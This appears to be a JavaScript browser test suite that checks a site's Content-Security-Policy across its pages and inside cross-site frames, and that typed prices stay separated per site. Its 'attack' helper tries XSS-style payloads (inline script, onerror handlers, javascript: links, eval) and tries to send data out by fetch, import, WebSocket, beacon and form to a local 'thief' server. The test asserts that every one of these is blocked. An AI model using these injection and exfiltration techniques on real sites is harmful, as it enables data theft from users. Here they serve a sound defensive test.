// What SECURITY.md promises, in the browsers: the policy holds on every page and inside frames, and what is kept is apart or said to be lost.
import assert from "node:assert/strict";
import { readdirSync, readFileSync } from "node:fs";
import { join, resolve } from "node:path";
import { after, before, describe, test } from "node:test";
import { apart, BROWSERS, launch } from "./lib/browsers.mjs";
import { document as html, frames, startHost } from "./lib/host.mjs";
import { startServer } from "./lib/server.mjs";
import { click, DIST, expectStored, open, PROCESS, ready, site, step, type } from "./lib/steps.mjs";

let server, thief;
before(async () => {
  server = await site();
  // Takes whatever anybody brings.
  thief = await startServer({ root: DIST, cors: true });
});
after(() => Promise.all([server?.close(), thief?.close()]));

const EMBED = () => html(`<script src="${server.url("embed.js")}" data-proceso="${PROCESS}"></script>`);

/** A form is sent last, since a browser may leave an empty page where it stops one. */
const send = (thief) => {
  const form = Object.assign(document.createElement("form"), { action: `${thief}/form` });
  document.body.append(form);
  form.submit();
};

/** Everything that a text which became code would try. Says what worked. */
const attack = (thief) => (async () => {
  const worked = [];
  const script = Object.assign(document.createElement("script"), { textContent: "globalThis.pwned = 'inline'" });
  document.head.append(script);
  if (globalThis.pwned) worked.push("an inline script");
  const holder = document.createElement("div");
  document.body.append(holder);
  holder.insertAdjacentHTML("beforeend", `<img src="x" onerror="globalThis.pwned = 'handler'"><a href="javascript:globalThis.pwned = 'link'">x</a><iframe src="${thief}/frame"></iframe><img src="${thief}/picture"><link rel="stylesheet" href="${thief}/style">`);
  holder.querySelector("a").click();
  // In a task of its own: what the debugger runs itself may do more than the page.
  await new Promise((done) => setTimeout(() => {
    for (const [name, make] of [["eval", () => (0, eval)("globalThis.pwned = 'eval'")], ["new Function", () => new Function("globalThis.pwned = 'function'")()]]) {
      try {
        make();
        worked.push(name);
      } catch {}
    }
    done();
  }));
  await fetch(`${thief}/fetch`, { mode: "no-cors" }).then(() => worked.push("fetch"), () => {});
  await import(`${thief}/module.js`).then(() => worked.push("import"), () => {});
  const socket = await new Promise((done) => {
    try {
      const one = new WebSocket(`${thief.replace("http", "ws")}/socket`);
      one.onopen = () => done(true);
      one.onerror = () => done(false);
    } catch {
      done(false);
    }
  });
  if (socket) worked.push("a socket");
  navigator.sendBeacon?.(`${thief}/beacon`, "x");
  await new Promise((done) => setTimeout(done, 300));
  if (globalThis.pwned) worked.push(globalThis.pwned);
  holder.remove();
  return worked;
})();

for (const name of BROWSERS) {
  describe(`the policy in ${name}`, () => {
    let browser;
    before(async () => (browser = await launch(name)));
    after(() => browser?.close());

    test("a text that got into any page as markup runs nothing and sends nothing", () => apart(browser, async (page) => {
      let pages = 0;
      for (const file of readdirSync(DIST).filter((file) => file.endsWith(".html"))) {
        await page.goto(server.url(file) + (file === "revisar.html" ? `#/${PROCESS}` : ""));
        if (file !== "demostracion.html") await ready(page);
        assert.deepEqual(await page.evaluate(attack, thief.origin), [], file);
        await page.evaluate(send, thief.origin).catch(() => {});
        await page.goto("about:blank").catch(() => {}); // where it stopped may still be settling
        await page.goto("about:blank");
        pages += 1;
      }
      assert.deepEqual(thief.requests, []);
      console.log(`${name}: ${pages} pages attacked`);
      assert.ok(pages >= 7);
    }));

    test("it is the same inside a frame of another site", () => apart(browser, async (page) => {
      const host = await startHost(server, { "index.html": EMBED() });
      try {
        await page.goto(host.url("index.html"));
        const [frame] = await frames(page, 1);
        assert.deepEqual(await frame.evaluate(attack, thief.origin), []);
        await frame.evaluate(send, thief.origin).catch(() => {});
        await new Promise((done) => setTimeout(done, 500));
        assert.deepEqual(thief.requests, []);
        // And the thief can be reached, or all of this would show nothing.
        await fetch(`${thief.origin}/reached`);
        assert.deepEqual(thief.requests.splice(0), ["/reached"]);
      } finally {
        await host.close();
      }
    }));

    test("what is typed in the site is not seen from inside another, nor the other way round", () => apart(browser, async (page) => {
      await open(page, server, "precios");
      await type(page, "precio-7", "11111");
      await expectStored(page, `habilita:oferta:${PROCESS}`, "11111");
      const host = await startHost(server, { "index.html": EMBED() });
      try {
        await page.goto(host.url("index.html"));
        const [frame] = await frames(page, 1);
        await step(frame, "Precios");
        await frame.waitForSelector("#precio-7");
        assert.equal(await frame.$eval("#precio-7", (e) => e.value), "");
        await type(frame, "precio-7", "22222");
        await expectStored(frame, `habilita:oferta:${PROCESS}`, "22222");
        // And it is there when one comes back to the same page of the same site.
        await page.reload();
        const [again] = await frames(page, 1);
        await step(again, "Precios");
        await again.waitForSelector("#precio-7");
        assert.equal(await again.$eval("#precio-7", (e) => e.value), "22222");
        await open(page, server, "precios");
        assert.equal(await page.$eval("#precio-7", (e) => e.value), "11111");
      } finally {
        await host.close();
      }
    }));
  });
}

test("where the browser gives frames of other sites no storage it is said, and everything else works", async () => {
  const browser = await launch("firefox", { extraPrefsFirefox: { "network.cookie.cookieBehavior": 1 } });
  try {
    const page = await browser.newPage();
    const host = await startHost(server, { "index.html": EMBED() });
    try {
      await page.goto(host.url("index.html"));
      const [frame] = await frames(page, 1);
      assert.equal(await frame.evaluate(() => { try { return localStorage.length; } catch (error) { return error.name; } }), "SecurityError", "storage is indeed denied");
      assert.ok((await frame.$eval("main", (e) => e.innerText)).includes("Este navegador no deja guardar"));
      await step(frame, "Precios");
      await type(frame, "precio-7", "14400");
      await click(frame, 'nav.tasks li:last-child a');
      assert.equal(await frame.$("#rescate"), null);
    } finally {
      await host.close();
    }
  } finally {
    await browser.close();
  }
});

test("every page has the policy, and no script of the site can make code of a text", () => {
  const files = (folder) => readdirSync(folder, { withFileTypes: true }).flatMap((entry) => (entry.isDirectory() ? files(join(folder, entry.name)) : [join(folder, entry.name)]));
  const all = files(DIST);
  const pages = all.filter((file) => file.endsWith(".html"));
  for (const file of pages) {
    const [, policy] = /<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(readFileSync(file, "utf8")) ?? [];
    assert.ok(policy?.startsWith("default-src 'none'; script-src 'self'"), file);
    for (const rule of ["base-uri 'none'", "form-action 'none'"]) assert.ok(policy.includes(rule), `${file}: ${rule}`);
    assert.doesNotMatch(policy, /unsafe-inline|'unsafe-eval'|https?:|\*/, file);
  }
  const scripts = all.filter((file) => file.endsWith(".js"));
  // The library of the screen has a way to write markup, which nothing of ours calls (tests/house/safety.rs): it is only there.
  for (const file of scripts) assert.doesNotMatch(readFileSync(file, "utf8"), /\beval\(|new Function|document\.write|insertAdjacentHTML/, resolve(file));
  console.log(`${pages.length} pages and ${scripts.length} scripts looked at`);
  assert.ok(pages.length >= 7 && scripts.length >= 15);
});
